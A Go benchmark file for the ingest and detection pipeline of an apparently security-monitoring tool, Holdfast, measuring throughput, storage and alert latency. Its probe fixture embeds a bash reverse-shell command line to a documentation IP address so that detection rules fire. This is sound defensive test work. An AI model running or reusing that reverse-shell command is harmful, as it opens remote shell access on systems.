package ingest

import (
	"context"
	"errors"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/holdfast-security/holdfast/event"
	"github.com/holdfast-security/holdfast/finding"
	"github.com/holdfast-security/holdfast/internal/cputime"
	"github.com/holdfast-security/holdfast/internal/telemetrytest"
	"github.com/holdfast-security/holdfast/rules/rulefiles"
	"github.com/holdfast-security/holdfast/store"
	"github.com/holdfast-security/holdfast/store/segment"
	"github.com/holdfast-security/holdfast/store/sqlstore"
	"github.com/holdfast-security/holdfast/wire"
)

// frames returns the frames of a fleet and how many events are in them.
func frames(b *testing.B, count, size int) []Message {
	b.Helper()
	g := telemetrytest.New(telemetrytest.Options{Hosts: 20})
	encoder := wire.NewEncoder()
	sent := make(map[event.HostID]*wire.Header)
	var messages []Message
	for i := range count {
		host, events := g.Frame(size)
		h := sent[host]
		if h == nil {
			h = &wire.Header{Epoch: wire.Epoch{1}, First: 1}
			sent[host] = h
		}
		h.Sequence++
		pointers := make([]*event.Event, len(events))
		for i := range events {
			pointers[i] = &events[i]
		}
		data, err := encoder.AppendFrame(nil, *h, pointers)
		if err != nil {
			b.Fatal(err)
		}
		h.First += uint64(len(events))
		messages = append(messages, Message{Sequence: uint64(i) + 1, Host: host, Time: events[len(events)-1].Time, Frame: data})
	}
	return messages
}

// listSource plays messages.
type listSource struct{ messages []Message }

func (s *listSource) Read(ctx context.Context, _ string, from uint64, fn func(Message) error) error {
	for _, m := range s.messages[from-1:] {
		if err := fn(m); err != nil {
			return err
		}
	}
	<-ctx.Done()
	return ctx.Err()
}

func (s *listSource) Purge(context.Context, string, uint64) error { return nil }

// BenchmarkDetect is the path of a frame up to the store: decoding, checks,
// and Holdfast's own rules. Run it with -cpu 1.
func BenchmarkDetect(b *testing.B) {
	rules := rulefiles.Embedded().Compile()
	const size = 500
	messages := frames(b, 200, size)
	b.ReportAllocs()
	b.ResetTimer()
	for range b.N {
		ctx, cancel := context.WithCancel(b.Context())
		d := newDisk()
		p := New(Config{
			Partition: "0", Source: &listSource{messages}, State: &fakeState{d, &fault{}},
			Telemetry: &countTelemetry{fakeTelemetry: fakeTelemetry{disk: d, fault: &fault{}}, left: size * len(messages), done: cancel},
			Rules:     rules, CommitAge: time.Hour,
		})
		p.Run(ctx)
	}
	b.ReportMetric(float64(b.N*size*len(messages))/b.Elapsed().Seconds(), "events/s")
}

// BenchmarkIngest is the whole path of frames: decoding, checks, Holdfast's own
// rules, segments on disk and their commit to the database. Run it with -cpu 1.
func BenchmarkIngest(b *testing.B) {
	rules := rulefiles.Embedded().Compile()
	const size = 500
	messages := frames(b, 1000, size)
	b.ReportAllocs()
	b.ResetTimer()
	var bytes, alerts float64
	var cpu time.Duration
	for range b.N {
		b.StopTimer()
		state, telemetry := openStores(b)
		ctx, cancel := context.WithCancel(b.Context())
		b.StartTimer()
		began := cputime.Used()
		p := New(Config{
			Partition: "0", Source: &listSource{messages}, State: state, Rules: rules,
			Telemetry: &untilTelemetry{telemetry, size * len(messages), cancel},
		})
		p.Run(ctx)
		cpu += cputime.Used() - began
		b.StopTimer()
		list, err := state.SegmentList(b.Context(), store.SegmentFilter{})
		if err != nil {
			b.Fatal(err)
		}
		var rows int64
		for _, s := range list {
			rows += s.Rows
			bytes += float64(s.Bytes)
		}
		if rows != int64(size*len(messages)) {
			b.Fatalf("%d of %d events stored; %+v", rows, size*len(messages), p.Status())
		}
		alerts += float64(p.Stats().Alerts + p.Stats().Repeats)
		b.StartTimer()
	}
	events := float64(b.N * size * len(messages))
	b.ReportMetric(events/b.Elapsed().Seconds(), "events/s")
	b.ReportMetric(events/cpu.Seconds(), "events/cpu-s")
	b.ReportMetric(bytes/events, "B/event")
	b.ReportMetric(1e6*alerts/events, "alerts/Mevent")
}

// untilTelemetry says when everything came.
type untilTelemetry struct {
	*segment.Store
	left int
	done func()
}

func (u *untilTelemetry) Append(ctx context.Context, host event.HostID, events []event.Event) error {
	if err := u.Store.Append(ctx, host, events); err != nil {
		return err
	}
	if u.left -= len(events); u.left == 0 {
		u.done()
	}
	return nil
}

// countTelemetry keeps nothing and says when everything came.
type countTelemetry struct {
	fakeTelemetry
	left int
	done func()
}

func (c *countTelemetry) Append(_ context.Context, _ event.HostID, events []event.Event) error {
	if c.left -= len(events); c.left == 0 {
		c.done()
	}
	return nil
}

// pacedSource plays messages at a steady pace and notes when each came.
type pacedSource struct {
	messages []Message
	gap      time.Duration
	played   func(Message)
	done     func()
}

func (s *pacedSource) Read(ctx context.Context, _ string, from uint64, fn func(Message) error) error {
	begun := time.Now()
	for i, m := range s.messages[from-1:] {
		time.Sleep(time.Until(begun.Add(time.Duration(i) * s.gap)))
		s.played(m)
		if err := fn(m); err != nil {
			return err
		}
	}
	time.AfterFunc(time.Second, s.done)
	<-ctx.Done()
	return ctx.Err()
}

func (s *pacedSource) Purge(context.Context, string, uint64) error { return nil }

// probe returns a frame of a host's own that raises an alert.
func probe(b *testing.B, n int) Message {
	b.Helper()
	now := time.Now()
	ev := &event.Event{
		Time: now, Class: event.ClassProcessActivity, Activity: event.ProcessLaunch, Status: event.StatusSuccess,
		Process: &event.Process{
			PID: 4242, Name: "bash", Executable: &event.File{Path: "/bin/bash"}, Arguments: []string{"bash", "-i"},
			CommandLine: "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", Started: now, Executed: now,
		},
	}
	data, err := wire.NewEncoder().AppendFrame(nil, wire.Header{Epoch: wire.Epoch{2}, Sequence: 1, First: 1}, []*event.Event{ev})
	if err != nil {
		b.Fatal(err)
	}
	return Message{Host: event.HostID(fmt.Sprintf("hprobe%010d", n)), Time: now, Frame: data}
}

// BenchmarkAlertDelay is the time from a frame's coming out of the stream until
// its alert is saved, while 20,000 events a second are stored: the longest
// shows what a commit costs.
func BenchmarkAlertDelay(b *testing.B) {
	rules := rulefiles.Embedded().Compile()
	const size, every = 500, 5
	var messages []Message
	for i, m := range frames(b, 600, size) {
		if i%every == 0 {
			messages = append(messages, probe(b, i))
		}
		messages = append(messages, m)
	}
	for i := range messages {
		messages[i].Sequence = uint64(i) + 1
	}
	for range b.N {
		var mu sync.Mutex
		came, delays := make(map[event.HostID]time.Time), []time.Duration{}
		ctx, cancel := context.WithCancel(b.Context())
		state, telemetry := openStores(b)
		p := New(Config{
			Partition: "0", State: state, Telemetry: telemetry, Rules: rules,
			Source: &pacedSource{messages, time.Second * size * every / 20_000 / (every + 1), func(m Message) {
				mu.Lock()
				defer mu.Unlock()
				came[m.Host] = time.Now()
			}, cancel},
			Saved: func(alerts []finding.Alert, _ []string, _ map[string]string) {
				mu.Lock()
				defer mu.Unlock()
				for _, a := range alerts {
					if strings.HasPrefix(string(a.Host), "hprobe") {
						delays = append(delays, time.Since(came[a.Host]))
					}
				}
			},
		})
		p.Run(ctx)
		slices.Sort(delays)
		if len(delays) == 0 {
			b.Fatal("no alert came")
		}
		b.ReportMetric(float64(delays[len(delays)/2].Milliseconds()), "median-ms")
		b.ReportMetric(float64(delays[len(delays)-1].Milliseconds()), "longest-ms")
		b.ReportMetric(float64(p.Stats().Commits.Count), "commits")
	}
}

// openStores opens stores on disk for as long as the benchmark runs.
func openStores(b *testing.B) (*sqlstore.Store, *segment.Store) {
	b.Helper()
	dir := b.TempDir()
	state, err := sqlstore.Open(b.Context(), sqlstore.Config{Path: filepath.Join(dir, "state.db")})
	if err != nil {
		b.Fatal(err)
	}
	blobs, err := segment.OpenDirectory(filepath.Join(dir, "segments"))
	if err != nil {
		b.Fatal(err)
	}
	telemetry, err := segment.Open(b.Context(), blobs, state, segment.Options{})
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() {
		if err := errors.Join(telemetry.Close(), blobs.Close(), state.Close()); err != nil {
			b.Error(err)
		}
	})
	return state, telemetry
}
